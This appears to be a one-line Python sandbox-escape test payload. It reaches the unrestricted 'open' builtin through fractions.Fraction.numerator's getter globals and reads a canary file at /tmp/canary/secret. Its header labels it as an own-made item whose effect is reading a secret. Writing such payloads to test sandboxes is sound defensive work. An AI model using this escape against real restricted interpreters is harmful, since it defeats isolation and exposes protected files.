# source: own
# effect: secret

import fractions

print(fractions.Fraction.numerator.fget.__globals__["__builtins__"]["open"]("/tmp/canary/secret").read())
